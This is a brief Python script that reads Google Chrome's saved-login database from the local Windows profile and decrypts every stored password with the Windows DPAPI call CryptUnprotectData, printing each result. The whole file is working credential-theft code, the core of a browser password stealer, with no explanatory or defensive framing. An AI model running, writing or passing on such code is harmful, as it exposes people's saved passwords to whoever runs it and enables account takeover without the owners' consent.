import os
import sqlite3

import win32crypt

PATH = os.environ["LOCALAPPDATA"] + "\\Google\\Chrome\\User Data\\Default\\Login Data"
for row in sqlite3.connect(PATH).execute("SELECT password_value FROM logins"):
    print(win32crypt.CryptUnprotectData(row[0], None, None, None, 0))
